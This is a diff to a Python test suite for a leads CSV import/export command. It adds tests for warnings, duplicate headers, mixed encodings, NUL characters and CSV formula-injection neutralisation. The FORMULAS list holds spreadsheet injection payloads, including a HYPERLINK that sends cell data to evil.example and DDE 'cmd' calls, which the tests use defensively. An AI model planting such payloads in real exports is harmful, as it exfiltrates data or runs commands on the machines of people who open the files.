@@ -53,13 +53,17 @@ def test_json_output_is_exactly_one_object(app):
     result = invoke(app, "leads", "import", str(FIXTURES / "bad_rows.csv"), "--json")
     assert result.exit_code == 0, result.output
     assert result.stdout.count("\n") == 1
-    assert json.loads(result.stdout) == {"rows": 12, "created": 2, "updated": 0, "skipped": 0, "rejected": 10}
+    assert json.loads(result.stdout) == {
+        "rows": 12, "created": 2, "updated": 0, "skipped": 0, "rejected": 10, "warnings": [],
+    }
 
 
 def test_reimport_reports_nothing_new(app):
     invoke(app, "leads", "import", str(FIXTURES / "mailchimp.csv"), "--tag", "list-a")
     result = invoke(app, "leads", "import", str(FIXTURES / "mailchimp.csv"), "--tag", "list-a", "--json")
-    assert json.loads(result.stdout) == {"rows": 2, "created": 0, "updated": 0, "skipped": 2, "rejected": 0}
+    assert json.loads(result.stdout) == {
+        "rows": 2, "created": 0, "updated": 0, "skipped": 2, "rejected": 0, "warnings": [],
+    }
 
 
 def test_without_a_rejects_file_the_first_rejects_are_printed_with_line_and_reason(app):
@@ -88,6 +92,109 @@ def test_rejects_file_has_lines_reasons_and_original_values(app, tmp_path):
     assert [row[0] for row in rows[1:]] == ["4", "5", "6", "7", "8", "9", "10", "11", "12", "13"]
     assert rows[2][1].startswith("time_zone: unknown time zone 'Mars/Olympus'")
     assert rows[2][2:] == ["bad-tz@example.com", "Bad", "Mars/Olympus", "", "", "", "", ""]
+
+
+# Issue 9, item 7: these ran as formulas when a sales rep opened the export or the rejects file.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
+NEUTRALISED = [
+    '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "'+cmd\\|' /C calc'!A0",
+    "'@SUM(1+1)*cmd\\|' /C calc'!A0",
+    "'-2+3+cmd\\|' /C calc'!A0",
+]
+
+
+def test_the_rejects_file_neutralises_formulas(app, tmp_path):
+    source = tmp_path / "formulas.csv"
+    with source.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["email", "first_name", "company"])
+        for number, formula in enumerate(FORMULAS):
+            writer.writerow([f"not-an-email-{number}", formula, "Acme"])
+        # A leading tab is trimmed by spreadsheets, so this one would run as =1+1.
+        writer.writerow(["\t=1+1", "\t=1+1", "\r=1+1"])
+    rejects = tmp_path / "rejects.csv"
+    result = invoke(app, "leads", "import", str(source), "--rejects", str(rejects))
+    assert result.exit_code == 0, result.output
+    with rejects.open(newline="", encoding="utf-8-sig") as handle:
+        rows = list(csv.reader(handle))
+    assert [row[3] for row in rows[1:5]] == NEUTRALISED
+    assert rows[5][2:] == ["'\t=1+1", "'\t=1+1", "'\r=1+1"]
+    assert rows[5][1] == "email '=1+1': An email address must have an @-sign."
+    # The rejects file, fixed, imports back as it was written.
+    fixed = tmp_path / "fixed.csv"
+    with fixed.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows(
+            [rows[0][2:], *[[f"fixed{number}@example.com", *row[3:]] for number, row in enumerate(rows[1:5])]]
+        )
+    assert invoke(app, "leads", "import", str(fixed)).exit_code == 0
+    exported = invoke(app, "leads", "list", "--format", "json")
+    assert [lead["first_name"] for lead in json.loads(exported.stdout)] == FORMULAS
+
+
+def test_the_csv_export_neutralises_formulas_and_imports_back_unchanged(app, session, clock, tmp_path):
+    actor = Actor(ActorKind.USER)
+    for number, formula in enumerate(FORMULAS):
+        create_lead(
+            session, clock, f"f{number}@example.com", actor=actor, first_name=formula, company="=1+1",
+            phone="+33 1 23 45 67 89", tags=["=cmd"],
+        )
+    session.commit()
+    exported = invoke(app, "leads", "list", "--format", "csv")
+    assert exported.exit_code == 0, exported.output
+    rows = list(csv.DictReader(exported.stdout.splitlines(keepends=True)))
+    assert [row["first_name"] for row in rows] == NEUTRALISED
+    assert {(row["company"], row["phone"], row["tags"]) for row in rows} == {
+        ("'=1+1", "'+33 1 23 45 67 89", "'=cmd"),
+    }
+    assert {row["score"] for row in rows} == {"0"}
+    path = tmp_path / "export.csv"
+    path.write_text(exported.stdout, encoding="utf-8")
+    again = invoke(app, "leads", "import", str(path), "--json")
+    assert json.loads(again.stdout) == {
+        "rows": 4, "created": 0, "updated": 0, "skipped": 4, "rejected": 0, "warnings": [],
+    }
+
+
+def test_duplicate_header_names_exit_2_naming_them(app, session, tmp_path):
+    path = tmp_path / "dup.csv"
+    path.write_text("email,email,first_name,First Name,tags,tags\nann@example.com,b@example.com,A,B,c,d\n")
+    result = invoke(app, "leads", "import", str(path))
+    assert_one_line_error(
+        result, "dup.csv: duplicate column names: 'email' (column 1) and 'email' (column 2)", "'tags' (column 6)",
+    )
+    assert lead_count(session) == 0
+
+
+def test_warnings_follow_the_summary_on_stderr(app, tmp_path):
+    path = tmp_path / "mixed.csv"
+    path.write_bytes(
+        b"email,first_name\n" + "zoe@example.com,Zoë\n".encode() + "rene@example.com,René\n".encode("cp1252")
+    )
+    result = invoke(app, "leads", "import", str(path))
+    assert result.exit_code == 0, result.output
+    assert result.stdout == "Imported mixed.csv: 2 rows: 2 created, 0 updated, 0 skipped, 0 rejected.\n"
+    assert result.stderr == (
+        "Warning: the file mixes encodings: 1 row with accents was read as UTF-8 and 1 as windows-1252; "
+        "the windows-1252 ones are at line 3.\n"
+    )
+    as_json = invoke(app, "leads", "import", str(path), "--json")
+    assert json.loads(as_json.stdout)["warnings"] == [result.stderr[len("Warning: ") : -2]]
+
+
+def test_a_nul_character_rejects_the_row_with_its_line(app, session, tmp_path):
+    path = tmp_path / "nul.csv"
+    path.write_bytes(b"email,first_name\nann@example.com,A\x00nn\nbob@example.com,Bob\n")
+    result = invoke(app, "leads", "import", str(path))
+    assert result.exit_code == 0, result.output
+    assert result.stderr == "  line 2: first_name: contains a NUL character (at character 2)\n"
+    session.expire_all()
+    assert [lead.email for lead in session.scalars(select(Lead))] == ["bob@example.com"]
 
 
 def test_a_rejects_file_that_cannot_be_written(app, tmp_path, session):
@@ -163,7 +270,9 @@ def test_on_duplicate_skip(app, session, clock):
     create_lead(session, clock, "ann@example.com", actor=Actor(ActorKind.USER), first_name="Old")
     session.commit()
     result = invoke(app, "leads", "import", str(FIXTURES / "duplicates.csv"), "--on-duplicate", "skip", "--json")
-    assert json.loads(result.stdout) == {"rows": 4, "created": 1, "updated": 0, "skipped": 3, "rejected": 0}
+    assert json.loads(result.stdout) == {
+        "rows": 4, "created": 1, "updated": 0, "skipped": 3, "rejected": 0, "warnings": [],
+    }
     session.expire_all()
     assert find_lead(session, "ann@example.com").first_name == "Old"
 
@@ -225,7 +334,9 @@ def test_csv_list_imports_back_without_changes(app, imported, session, tmp_path)
     rows = list(csv.DictReader(exported.stdout.splitlines()))
     assert rows[1]["email"] == "Bob.Stone@example.com" and rows[1]["owner"] == "jane@example.com"
     again = invoke(app, "leads", "import", str(path), "--json")
-    assert json.loads(again.stdout) == {"rows": 3, "created": 0, "updated": 0, "skipped": 3, "rejected": 0}
+    assert json.loads(again.stdout) == {
+        "rows": 3, "created": 0, "updated": 0, "skipped": 3, "rejected": 0, "warnings": [],
+    }
 
 
 def test_list_a_segment(app, imported, session, clock):
